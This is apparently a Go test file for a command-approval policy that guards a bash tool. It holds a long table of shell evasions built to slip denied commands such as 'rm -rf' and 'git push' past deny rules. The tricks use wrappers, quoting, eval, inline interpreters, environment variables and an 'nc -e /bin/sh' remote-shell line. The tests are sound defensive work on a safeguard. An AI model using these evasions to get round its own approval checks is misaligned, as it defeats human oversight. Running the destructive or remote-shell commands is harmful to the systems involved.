package approval

import (
	"strings"
	"testing"

	"github.com/flemma-dev/flemma/approval/shell"
)

// The deny rules the evasion tables run against. The policy also approves
// the bash tool by name, so that a command the analyser lets through comes
// out as approve: nothing in the tables may.
var evasionDeny = []string{
	"bash(rm *)", "bash(git push*)", "bash(docker rm*)", "bash(kubectl delete*)",
}

func evasionPolicy(t testing.TB) *Policy {
	t.Helper()
	p, errs := NewPresets(map[string]PresetDef{"$x": {Deny: evasionDeny}}, nil)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	return p.Expand([]string{"bash", "$x"}, nil)
}

// evasion is one attack: the command and how it must be held. deny: the
// analyser sees the denied command and denies. ask: at least
// require_approval (a deny is fine too).
type evasion struct {
	name, command string
	deny          bool
}

// The outside review's list (issue 11, class 7) and more of our own. Every
// command here runs (or may run) a command a deny rule names.
var evasions = []evasion{
	// Redirections before, between and after the words of a simple command.
	{"redir stderr first", "2>/dev/null rm -rf x", true},
	{"redir out first", ">out rm x", true},
	{"redir in first", "<in rm x", true},
	{"redir dup first", "2>&1 rm x", true},
	{"redir both first", "&>/dev/null rm x", true},
	{"redir both append first", "&>>log rm x", true},
	{"redir clobber first", ">|out rm x", true},
	{"redir read-write first", "<>f rm x", true},
	{"redir dup in first", "0<&- rm x", true},
	{"redir fd var first", "{fd}>/dev/null rm x", true},
	{"redir between", "rm >out -rf x", true},
	{"redir spaced first", "2> /dev/null rm x", true},
	{"redir after assignment", "X=1 2>/dev/null rm x", true},
	{"redir before wrapper", "2>/dev/null sudo rm x", true},
	{"redir inside wrapper", "sudo 2>/dev/null rm x", true},
	{"redir here-string first", "<<<hi rm x", true},
	{"redir heredoc first", "<<EOF rm x\nhi\nEOF", true},
	{"redir git", "2>&1 git push", true},
	{"redir process subst target", "rm x > >(cat)", true},
	// Combined and attached short flags of wrappers.
	{"env -iu", "env -iu X rm -rf x", true},
	{"env -i -u", "env -i -u X rm x", true},
	{"env -S", "env -S 'rm x'", true},
	{"env -S attached", "env -S'rm x'", true},
	{"env -vS", "env -vS 'rm x'", true},
	{"env -iS", "env -iS'rm x'", true},
	{"env --split-string=", "env --split-string='rm x'", true},
	{"env -S with assignment", "env -S 'A=1 rm x'", true},
	{"env -S backslash-underscore", `env -S 'rm\_-rf\_x'`, true},
	{"env -S quotes", `env -S 'r""m x'`, true},
	{"env -S options inside", "env -S '-i rm x'", true},
	{"env dash", "env - rm x", true},
	{"env -C dir", "env -C /tmp rm x", true},
	{"env --chdir=", "env --chdir=/tmp rm x", true},
	{"env -u attached", "env -uX rm x", true},
	{"sudo -Eu", "sudo -Eu root rm x", true},
	{"sudo -uroot", "sudo -uroot rm x", true},
	{"sudo -u --", "sudo -u root -- rm x", true},
	{"sudo --user=", "sudo --user=root rm x", true},
	{"sudo --user abbreviated", "sudo --us root rm x", false},
	{"sudo assignment", "sudo FOO=1 rm x", true},
	{"sudo -s command", "sudo -s rm x", true},
	{"sudo -i", "echo rm x | sudo -i", false},
	{"sudo -s alone", "sudo -s", false},
	{"nice -n5", "nice -n5 rm x", true},
	{"nice -5", "nice -5 rm x", true},
	{"nice --adjustment=", "nice --adjustment=5 rm x", true},
	{"timeout -s KILL", "timeout -s KILL 5 rm x", true},
	{"timeout -sKILL", "timeout -sKILL 5 rm x", true},
	{"timeout -k5", "timeout -k5 5 rm x", true},
	{"timeout long", "timeout --signal=KILL --kill-after=1 5 rm x", true},
	{"xargs -0 -I{}", "xargs -0 -I{} rm {}", true},
	{"xargs -0I{}", "ls | xargs -0I{} rm {}", true},
	{"xargs -I %", "ls | xargs -I % rm %", true},
	{"xargs -n1 -P4", "ls | xargs -n1 -P4 rm", true},
	{"xargs -a file", "xargs -a list rm", true},
	{"xargs replace-string runs a shell", "ls | xargs -I% sh -c %", false},
	{"xargs replace-string as command", "ls | xargs -I@ @ -rf x", false},
	{"xargs appends the command", "echo rm x | xargs env", false},
	{"xargs appends to sudo", "echo rm x | xargs sudo", false},
	{"xargs appends to nohup", "echo rm x | xargs nohup", false},
	{"xargs appends to eval", "echo rm x | xargs eval", false},
	{"stdbuf -o0", "stdbuf -o0 rm x", true},
	{"stdbuf -oL -eL", "stdbuf -oL -eL rm x", true},
	{"ionice -c3", "ionice -c3 rm x", true},
	{"ionice -c 3 -n7", "ionice -c 3 -n7 rm x", true},
	{"chrt", "chrt 5 rm x", true},
	{"chrt -f", "chrt -f 5 rm x", true},
	{"taskset", "taskset 1 rm x", true},
	{"taskset -c", "taskset -c 0-3 rm x", true},
	{"setsid", "setsid rm x", true},
	{"setsid -f", "setsid -f rm x", true},
	{"unbuffer", "unbuffer rm x", true},
	{"doas", "doas rm x", true},
	{"doas -u", "doas -u root rm x", true},
	{"pkexec", "pkexec rm x", true},
	{"pkexec --user", "pkexec --user root rm x", true},
	{"runuser -u", "runuser -u x rm x", true},
	{"runuser -u --", "runuser -u x -- rm x", true},
	{"runuser -c", "runuser root -c 'rm x'", true},
	{"su -c", "su -c 'rm x'", true},
	{"su root -c", "su root -c 'rm x'", true},
	{"su --command=", "su --command='rm x' root", true},
	{"su -s", "su -s /bin/rm root", false},
	{"chroot", "chroot / rm x", true},
	{"chroot --userspec", "chroot --userspec=1:1 / rm x", true},
	{"chroot shell", "echo rm x | chroot /", false},
	{"strace", "strace rm x", true},
	{"strace -f -o", "strace -f -o log rm x", true},
	{"strace -ff", "strace -ff -e trace=file rm x", true},
	{"ltrace", "ltrace rm x", true},
	{"watch", "watch rm x", true},
	{"watch -n", "watch -n1 'rm x'", true},
	{"watch -x", "watch -x rm x", true},
	{"watch -n -x", "watch -n 1 -x rm x", true},
	{"parallel", "parallel rm ::: x", false},
	{"parallel no command", "echo 'rm x' | parallel", false},
	{"time", "time rm x", true},
	{"time -p", "time -p rm x", true},
	{"time -f", "time -f %e rm x", true},
	{"nohup", "nohup rm x", true},
	{"nohup background", "nohup rm x &", true},
	{"command -p", "command -p rm x", true},
	{"command --", "command -- rm x", true},
	{"builtin", "builtin command rm x", true},
	{"exec -a", "exec -a foo rm x", true},
	{"exec -cl", "exec -cl rm x", true},
	{"exec -a attached to cluster", "exec -ca foo rm x", true},
	{"busybox", "busybox rm x", true},
	{"busybox sh -c", "busybox sh -c 'rm x'", true},
	{"wrapper chain", "sudo -E nice -n5 timeout 5 env -i nohup rm x", true},
	// flock
	{"flock -c", "flock -c 'rm x' lockfile", true},
	{"flock lockfile -c", "flock lockfile -c 'rm x'", true},
	{"flock lockfile --command", "flock lockfile --command 'rm x'", true},
	{"flock lockfile cmd", "flock lockfile rm x", true},
	{"flock -n -w", "flock -n -w 5 lockfile rm x", true},
	{"flock -x", "flock -x /tmp/l rm x", true},
	// Scripts the analyser cannot read.
	{"source", "source file", false},
	{"dot", ". file", false},
	{"dot path", ". ./x.sh", false},
	{"source process subst", "source <(echo rm x)", false},
	{"bash script", "bash x.sh", false},
	{"sh stdin pipe", "echo 'rm x' | sh", false},
	{"bash -s", "cat f | bash -s", false},
	{"BASH_ENV", "BASH_ENV=./x bash -c true", false},
	// Unknown wrappers: a word equal to the rule's first word.
	{"unknown foo", "foo rm -rf x", false},
	{"unknown mywrap git", "mywrap git push", false},
	{"unknown path basename", "mywrap /bin/rm x", false},
	{"unknown option value", "mywrap --exec=rm x", false},
	{"unknown string arg", "mywrap 'rm x'", false},
	{"unknown after options", "mywrap -a -b rm", false},
	{"nsenter", "nsenter -t 1 -m rm x", false},
	{"unshare", "unshare -r rm x", false},
	{"firejail", "firejail rm x", false},
	{"systemd-run", "systemd-run --user rm x", false},
	{"npx -c", "npx -c 'rm x'", false},
	{"ssh remote", "ssh host rm -rf x", true},
	{"ssh remote string", "ssh -p 22 host 'rm -rf x'", true},
	{"ssh ProxyCommand", "ssh -o ProxyCommand='rm x' host", true},
	{"ssh stdin", "echo rm x | ssh host", false},
	{"scp -S", "scp -S rm a b", false},
	{"rsync -e", "rsync -e 'rm x' a b", false},
	{"docker run", "docker run img rm -rf x", false},
	{"kubectl exec", "kubectl exec pod -- rm x", false},
	{"tmux", "tmux new 'rm x'", false},
	{"script -c", "script -c 'rm x' /dev/null", false},
	{"script shell", "echo rm x | script -q /dev/null", false},
	{"sg", "sg wheel 'rm x'", true},
	{"sg -c", "sg wheel -c 'rm x'", true},
	{"newgrp", "echo rm x | newgrp wheel", false},
	{"at", "echo 'rm x' | at now", false},
	{"batch", "batch <<< 'rm x'", false},
	{"crontab", "echo '* * * * * rm x' | crontab -", false},
	{"vim -c", "vim -c '!rm x' f", false},
	{"vim +", "vim '+!rm x' f", false},
	{"ex stdin", "echo '!rm x' | ex", false},
	{"gdb", "gdb -batch -ex 'shell rm x'", false},
	{"emacs --eval", `emacs --batch --eval '(shell-command "rm x")'`, false},
	{"make --eval", "make --eval='x:;rm y' x", false},
	{"make variable", "make 'CC=$(shell rm x)'", false},
	{"hash -p", "hash -p /bin/rm ls; ls -rf x", false},
	{"enable -f", "enable -f ./x.so rm", false},
	{"fc", "fc -s", false},
	{"compgen -C", "compgen -C 'rm x' y", false},
	{"mapfile -C", "mapfile -C 'rm x' -c 1 a < f", true},
	{"cp the binary", "cp /bin/rm ./x; ./x -rf y", false},
	{"ln the binary", "ln -s /bin/rm x; ./x -rf y", false},
	{"cat the binary", "cat /bin/rm > x; chmod +x x; ./x -rf y", false},
	{"write a script", "echo 'rm -rf y' > x.sh; chmod +x x.sh; ./x.sh", false},
	{"write a script with heredoc", "cat > x.sh <<'EOF'\nrm -rf y\nEOF\nchmod +x x.sh; ./x.sh", false},
	{"pipe into unknown", "echo rm x | mywrap", false},
	{"pipe from subshell", "(echo rm x) | mywrap", false},
	{"pipe from group", "{ echo rm x; } | mywrap", false},
	{"pipe into subshell", "echo rm x | (mywrap)", false},
	{"pipe into loop", "echo rm x | while true; do mywrap; done", false},
	{"process subst into unknown", "mywrap < <(echo rm x)", false},
	{"file into unknown", "printf 'rm x' > f; mywrap < f", false},
	{"command env var built", "GIT_SSH_COMMAND=$(printf r)m git fetch", false},
	{"command env var exported", "export PAGER=\"$(printf r)m\"; git log", false},
	{"command env var literal", "GIT_SSH_COMMAND='rm x' git fetch", false},
	{"bash --rcfile", "bash --rcfile x.sh -i -c true", false},
	{"function import", `env 'BASH_FUNC_ls%%=() { r\m -rf x; }' bash -c ls`, false},
	{"function import by sudo", `sudo 'BASH_FUNC_ls%%=() { r\m -rf x; }' bash -c ls`, false},
	{"suspect backslash", `mywrap 'r\m -rf x'`, false},
	{"suspect expansion", `mywrap 'r${x}m -rf x'`, false},
	{"suspect quotes", `mywrap 'r""m x'`, false},
	{"TAR_OPTIONS", `TAR_OPTIONS='--checkpoint-action=exec=r\m\ x' tar xf a.tar`, false},
	{"TAR_OPTIONS built", `TAR_OPTIONS=$(cat opts) tar xf a.tar`, false},
	{"sqlite3 shell", "echo '.shell rm x' | sqlite3", false},
	{"sqlite3 built", `printf '.shell r\x6d x' | sqlite3`, false},
	{"psql", `psql <<< '\! rm x'`, false},
	{"ed", "echo '!rm x' | ed", false},
	{"dc", "dc <<< '!rm x'", false},
	{"nc -e", "nc -e /bin/sh host 1", false},
	// Interpreters with inline code.
	{"python -c", `python -c 'import os; os.system("rm x")'`, false},
	{"python3 -c obfuscated", `python3 -c 'import os; os.system("r"+"m x")'`, false},
	{"python -uc", `python3 -uc 'import os'`, false},
	{"python stdin", "echo 'import os' | python3", false},
	{"python -", "python3 - <<'EOF'\nimport os\nEOF", false},
	{"perl -e", `perl -e 'system("rm x")'`, false},
	{"perl -pe", `perl -pe 'system("rm x")' f`, false},
	{"ruby -e", `ruby -e 'system("rm x")'`, false},
	{"node -e", `node -e 'require("child_process").execSync("rm x")'`, false},
	{"node --eval=", `node --eval='1'`, false},
	{"php -r", `php -r 'system("rm x");'`, false},
	{"lua -e", `lua -e 'os.execute("rm x")'`, false},
	{"awk system", `awk 'BEGIN{system("rm x")}'`, false},
	{"awk pipe", `awk 'BEGIN{print "rm x" | "sh"}'`, false},
	{"awk -f", "awk -f prog.awk f", false},
	{"gawk -e", `gawk -e 'BEGIN{system("r" "m x")}'`, false},
	{"sed e flag", "sed 's/.*/rm x/e' f", false},
	{"sed e command", "sed '1e rm x' f", false},
	{"sed e built", "echo r | sed 's/r/&m x/e'", false},
	{"sed -e e", "sed -n -e 'p' -e '1e ls' f", false},
	{"sed -f", "sed -f prog.sed f", false},
	{"sed permuted -e", "sed p -e '1e rm x' f", false},
	{"sed permuted --expression", "sed p f --expression='1e rm x'", false},
	{"awk permuted -f", "awk '{print}' f -f prog.awk", false},
	{"xargs awk", `echo 'BEGIN{system("rm x")}' | xargs -0 awk`, false},
	{"xargs sed", `echo "-e 1e\\ rm\\ x" | xargs sed p`, false},
	{"xargs find", "echo '-exec rm {} ;' | xargs find .", false},
	{"xargs watch", "echo rm x | xargs watch", false},
	{"xargs flock -c", "echo rm x | xargs -0 flock f -c", false},
	{"xargs git", "echo push | xargs git", false},
	{"xargs ssh", "echo host rm x | xargs ssh", false},
	{"osascript", `osascript -e 'do shell script "rm x"'`, false},
	{"pwsh", "pwsh -c 'rm x'", false},
	// Global options before a subcommand.
	{"git -C", "git -C . push", true},
	{"git -c", "git -c x=y push", true},
	{"git --git-dir=", "git --git-dir=.git push", true},
	{"git --git-dir sep", "git --git-dir .git push", true},
	{"git --work-tree", "git --work-tree . push", true},
	{"git --no-pager", "git --no-pager push", true},
	{"git -P", "git -P push", true},
	{"git -p", "git -p push", true},
	{"git --bare", "git --bare push", true},
	{"git --namespace", "git --namespace x push origin", true},
	{"git many", "git -C . -c a=b --no-pager --literal-pathspecs push --force", true},
	{"git path", "/usr/bin/git -C . push", true},
	{"git alias by -c", "git -c alias.p=push p origin", true},
	{"git alias shell by -c", "git -c 'alias.p=!rm x' p", true},
	{"git pager", "git -c core.pager='rm x' log", false},
	{"git sshCommand", "git -c core.sshCommand='rm x' fetch", false},
	{"git config alias", "git config alias.p push; git p --force", false},
	{"git unknown option", "git --frobnicate push", false},
	{"git dynamic option", "git $OPT push", false},
	{"git rebase -x", "git rebase -x 'rm x' HEAD~3", false},
	{"git bisect run", "git bisect run rm x", false},
	{"git submodule foreach", "git submodule foreach 'rm x'", false},
	{"git remote ext", "git remote add e 'ext::sh -c rm% x'; git fetch e", false},
	{"git env config", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p", false},
	{"git push reordered", "git push origin main --force", true},
	{"docker --context", "docker --context x rm c", false},
	{"docker -H", "docker -H tcp://h rm c", false},
	{"kubectl -n", "kubectl -n x delete pod y", false},
	{"kubectl --context", "kubectl --context=prod delete pod y", false},
	// Quotes, escapes and expansions building the command word.
	{"empty quotes", "r''m x", true},
	{"double quotes", `"r"m x`, true},
	{"backslash", `\rm x`, true},
	{"backslash inside", `r\m x`, true},
	{"ansi-c", "$'rm' x", true},
	{"ansi-c hex", `$'\x72\x6d' x`, true},
	{"ansi-c octal", `$'\162\155' x`, true},
	{"ansi-c unicode", `$'\u0072m' x`, true},
	{"ansi-c concatenated", `r$'m' x`, true},
	{"locale quotes", `$"rm" x`, false},
	{"IFS", "rm${IFS}-rf${IFS}x", false},
	{"IFS command", "x=rm${IFS}-rf; $x", false},
	{"variable command", "x=rm; $x -rf y", false},
	{"variable concatenation", "a=r; b=m; $a$b x", false},
	{"substring", `x=xrm; ${x:1} y`, false},
	{"indirect", "y=rm; x=y; ${!x} z", false},
	{"command subst word", "$(echo rm) x", false},
	{"backtick word", "`echo rm` x", false},
	{"arithmetic word", "$((1))rm x", false},
	{"brace expansion", "{rm,-rf,x}", false},
	{"brace expansion suffix", "{r,}m x", false},
	{"glob", "/bin/r? x", false},
	{"glob bracket", "/bin/r[m] x", false},
	{"glob star", "/bin/r* x", false},
	{"extglob", "shopt -s extglob\n/bin/r@(m) x", false},
	{"tilde user", "~rm x", false},
	{"zsh equals", "=rm x", false},
	{"alias", "shopt -s expand_aliases\nalias x='rm -rf'\nx y", true},
	{"function", `f(){ rm "$@"; }; f x`, true},
	{"function keyword", "function f { rm x; }; f", true},
	{"eval", "eval rm x", true},
	{"eval quoted", "eval 'rm x'", true},
	{"eval variable", `x='; rm y'; eval "echo $x"`, false},
	{"eval nested", `eval "eval 'rm x'"`, true},
	{"exec", "exec rm x", true},
	{"trap", "trap 'rm x' EXIT", true},
	{"trap dynamic", `trap "$x" EXIT`, false},
	{"PS4", "PS4='$(rm x)'; set -x; true", false},
	{"prompt expansion", `x='$(rm y)'; echo "${x@P}"`, false},
	{"prompt expansion escaped", `x=\$\(rm\ y\); echo "${x@P}"`, false},
	{"arithmetic subscript", `x='a[$(rm y)]'; echo $((x))`, false},
	{"arithmetic subscript built", `x='a[$(r'; y='m y)]'; z=$x$y; echo $((z))`, false},
	{"arithmetic printf -v", `printf -v x '%s(rm y)]' 'a[$'; echo $((x))`, false},
	{"test -v", `read x; test -v "$x"`, false},
	{"read name", `read -r n; read "$n" <<< 1`, false},
	{"declare -i", `read y; declare -i x; x=y`, false},
	{"double bracket arith", `read x; [[ x -gt 1 ]]`, false},
	{"subst", "echo $(rm x)", true},
	{"subst in quotes", `echo "$(rm x)"`, true},
	{"backticks", "echo `rm x`", true},
	{"nested backticks", "echo `echo \\`rm x\\``", true},
	{"process subst", "cat <(rm x)", true},
	{"process subst out", "echo x > >(rm y)", true},
	{"param default subst", "echo ${x:-$(rm y)}", true},
	{"arith subst", "echo $(( $(rm y) + 1 ))", true},
	{"arith command subst", "(( $(rm y) ))", true},
	{"subshell in arith-like", "((rm x) )", true},
	{"here-string to bash", "bash <<< 'rm x'", true},
	{"heredoc to bash", "bash <<'EOF'\nrm x\nEOF", true},
	{"heredoc to sh -s", "sh -s <<EOF\nrm x\nEOF", true},
	{"heredoc subst", "cat <<EOF\n$(rm x)\nEOF", true},
	{"heredoc dynamic to bash", "bash <<EOF\n$x\nEOF", false},
	{"sh -c", "sh -c 'rm x'", true},
	{"sh -c dynamic", `sh -c "$x"`, false},
	{"sh -c concatenated", `sh -c "echo $x"`, false},
	{"sh -xec", "sh -xec 'rm x'", true},
	{"bash --norc -c", "bash --norc -c 'rm x'", true},
	{"bash -o posix -c", "bash -o posix -c 'rm x'", true},
	{"find -exec", `find . -exec rm {} \;`, true},
	{"find -exec {} command", `find . -exec {} -rf x \;`, false},
	{"find -execdir sh", `find . -execdir sh -c 'rm "$1"' _ {} +`, true},
	{"find -ok", `find . -ok rm {} ';'`, true},
	{"xargs sh -c", "ls | xargs sh -c 'rm x'", true},
	{"case", "case x in x) rm y;; esac", true},
	{"case in subst", "echo $(case x in x) rm y;; esac)", true},
	{"case pattern alternation", "case x in a|b) rm y;; esac", true},
	{"if", "if true; then rm x; fi", true},
	{"while", "while false; do :; done; rm x", true},
	{"for", "for f in a; do rm $f; done", true},
	{"for arith", "for ((i=0;i<1;i++)); do rm x; done", true},
	{"for arith without ;", "for ((i=0;i<1;i++)) do rm x; done", true},
	{"for without in", "set -- a; for x do rm $x; done", true},
	{"for without in, newline", "for x\ndo rm x; done", true},
	{"select", "select x in a; do rm x; done", true},
	{"negated subshell", "!(rm x)", true},
	{"heredoc delimiter continued", "cat <<EOF\nEO\\\nF\nrm x\n", true},
	{"double bracket then", "[[ -f x ]] && rm x", true},
	{"double bracket regex", "[[ x =~ (a|b) ]]; rm x", true},
	{"not", "! rm x", true},
	{"coproc", "coproc rm x", true},
	{"coproc named", "coproc n { rm x; }", true},
	{"brace group", "{ rm x; }", true},
	{"subshell", "(rm x)", true},
	{"array assignment then run", `a=(rm -rf x); "${a[@]}"`, false},
	{"assignment prefix", "X=1 rm x", true},
	{"assignment value for unknown", "X=rm mywrap", false},
	{"positional", `set -- rm x; "$@"`, false},
	{"last argument", "echo rm; mywrap $_ x", false},
	{"for glob into unknown", "for f in r*; do mywrap $f x; done", false},
	// Separators and bytes.
	{"newline", "ls\nrm x", true},
	{"carriage return", "ls\rrm x", true},
	{"crlf", "ls\r\nrm x", true},
	{"semicolon", "ls;rm x", true},
	{"and", "ls&&rm x", true},
	{"or", "false||rm x", true},
	{"pipe", "ls|rm x", true},
	{"pipe stderr", "ls|&rm x", true},
	{"background", "ls&rm x", true},
	{"case terminator", "case x in x) ls;;& *) rm y;; esac", true},
	{"comment then newline", "ls # x\nrm y", true},
	{"line continuation", "r\\\nm x", true},
	{"nul", "ls\x00rm x", false},
	{"nul in word", "r\x00m x", false},
	{"upper case", "RM x", true},
	{"mixed case wrapper", "SUDO rm x", true},
	{"unbalanced quote", "echo 'x; rm y", false},
	{"unbalanced subst", "echo $(rm y", true},
	{"unterminated double bracket", "[[ x ; rm y", false},
	{"very long", strings.Repeat("a", MaxAnalyzeCommandLen) + "; rm x", false},
	{"deep eval", nest(shell.MaxNesting + 2), false},
	{"deep subst", strings.Repeat("$(", 300) + "rm x" + strings.Repeat(")", 300), false},
	{"many wrappers", strings.Repeat("nohup ", 200) + "rm x", false},
	{"deep quoting", `sh -c "sh -c \"sh -c 'rm x'\""`, true},
	// Deny rules with flags: the same tool, differently arranged.
	{"flags split", "rm -r -f x", true},
}

// flagRule is held against rm -rf* separately: the table above uses rm *.
var flagEvasions = []evasion{
	{"split flags", "rm -r -f /", false},
	{"reordered flags", "rm -fr /", false},
	{"flags after operand", "rm / -rf", false},
	{"upper-case flag", "rm -Rf /", true},
	{"dynamic flags", `rm $FLAGS /`, false},
	{"xargs appends", "ls | xargs rm", true},
}

func TestDenyEvasions(t *testing.T) {
	pol := evasionPolicy(t)
	for _, tt := range evasions {
		t.Run(tt.name, func(t *testing.T) {
			d, rule := pol.Decide(bashCall(tt.command))
			switch {
			case tt.deny && d != Deny:
				t.Errorf("Decide(%.80q) = %q (%s), want deny", tt.command, d, rule)
			case d != Deny && d != RequireApproval:
				t.Errorf("Decide(%.80q) = %q (%s), want deny or require_approval", tt.command, d, rule)
			}
		})
	}
	p, _ := NewPresets(map[string]PresetDef{"$x": {Deny: []string{"bash(rm -rf*)"}}}, nil)
	flags := p.Expand([]string{"bash", "$x"}, nil)
	for _, tt := range flagEvasions {
		t.Run("rm -rf/"+tt.name, func(t *testing.T) {
			d, rule := flags.Decide(bashCall(tt.command))
			switch {
			case tt.deny && d != Deny:
				t.Errorf("Decide(%.80q) = %q (%s), want deny", tt.command, d, rule)
			case d != Deny && d != RequireApproval:
				t.Errorf("Decide(%.80q) = %q (%s), want deny or require_approval", tt.command, d, rule)
			}
		})
	}
}

// TestDenyRulesLeaveHarmless: the analyser must not turn every command into
// a question. These commands run nothing a deny rule names and must keep
// the approval the policy gives bash.
func TestDenyRulesLeaveHarmless(t *testing.T) {
	pol := evasionPolicy(t)
	for _, cmd := range harmless {
		d, rule := pol.Decide(bashCall(cmd))
		if d != Approve {
			t.Errorf("Decide(%q) = %q (%s), want approve", cmd, d, rule)
		}
	}
}

var harmless = []string{
	"ls -la",
	"git status --short",
	"git log --oneline -n 5",
	"git diff HEAD~1 -- src/",
	"git commit -m 'push the rm fix'",
	"git rm --cached x",
	"git -C sub status",
	"git add . && git commit -m wip",
	"go test ./... 2>&1 | tail -20",
	`cd src && go test ./... 2>&1 | tee out.log; echo "done: $(date)"`,
	"echo rm",
	"echo 'rm -rf /' | grep rm",
	"grep -rn 'git push' docs/",
	"cat README.md | head -20",
	"rmdir build",
	"command -v rm",
	"type rm",
	"which git",
	"make test",
	"npm run build",
	"docker ps -a",
	"kubectl get pods -n x",
	"python3 script.py --verbose",
	"python3 -m pytest -q",
	"node --version",
	"sed -n '10,20p' file.go",
	"sed -i 's/version = .*/version = 2/' Cargo.toml",
	"sed -e 's/a/b/g' -e '/^#/d' f",
	"awk '{print $1}' f",
	`awk -F: '{ print $1 " " $NF }' /etc/passwd`,
	"jq '.items[] | .name' x.json",
	`for f in *.go; do wc -l "$f"; done`,
	"for i in 1 2 3; do echo $((i*2)); done",
	"n=$(wc -l < f); echo $n",
	"find . -name '*.go' -newer go.mod",
	"find . -name rm -type f",
	`find . -name '*.tmp' -exec ls -l {} \;`,
	"ls | xargs -n1 echo",
	"cat <<'EOF'\nplease don't\nEOF",
	"cat <<EOF > notes.txt\nhello $USER\nEOF",
	`echo "$HOME" > /dev/null 2>&1`,
	"X=1 Y=2 env | sort",
	"sudo -u www-data ls /var/www",
	"timeout 10 go test ./...",
	"time make",
	"ssh host uptime",
	"[[ -f go.mod ]] && echo yes",
	"case $1 in start) echo go;; *) echo no;; esac",
	"f() { echo hi; }; f",
	"export PATH=$HOME/bin:$PATH",
	"tar czf out.tgz src",
	"curl -s https://example.com | jq .",
	"bash --version",
	"git -c color.ui=always log",
	"for ((i=0; i<3; i++)); do echo $i; done",
}

// TestDenyOutcomes pins the exact outcome and rule for each kind of answer.
func TestDenyOutcomes(t *testing.T) {
	pol := evasionPolicy(t)
	rm := "bash(rm *) from $x"
	tests := []struct {
		command string
		want    Decision
		rule    string
	}{
		{"2>/dev/null rm -rf x", Deny, rm},
		{"git -C . --no-pager push", Deny, "bash(git push*) from $x"},
		{"$CMD x", RequireApproval, RuleUnverifiable},
		{"source ./env.sh", RequireApproval, RuleUnverifiable},
		{"python3 -c 'print(1)'", RequireApproval, RuleUnverifiable},
		{"foo rm -rf x", RequireApproval, RuleMayMatch + rm},
		{"docker --context x rm c", RequireApproval, RuleMayMatch + rm}, // the first rule that may match
		{"docker --context x stop c", Approve, "bash"},
		{"kubectl -n x delete pod y", RequireApproval, RuleMayMatch + "bash(kubectl delete*) from $x"},
		{"cat <<'EOF'\nrm -rf /\nEOF", RequireApproval, RuleMayMatch + rm},
		{"echo rm", Approve, "bash"},
		{"git rm --cached x", Approve, "bash"},
	}
	for _, tt := range tests {
		if d, rule := pol.Decide(bashCall(tt.command)); d != tt.want || rule != tt.rule {
			t.Errorf("Decide(%q) = %q, %q; want %q, %q", tt.command, d, rule, tt.want, tt.rule)
		}
	}
	// MatchCommand reports only the certain match.
	for _, c := range []struct {
		command string
		want    bool
	}{
		{"2>/dev/null rm -rf x", true}, {"env -iu X rm x", true}, {"foo rm x", false}, {"$CMD x", false},
	} {
		if got := MatchCommand("bash(rm *)", c.command, false); got != c.want {
			t.Errorf("MatchCommand(bash(rm *), %q, deny) = %v, want %v", c.command, got, c.want)
		}
	}
}
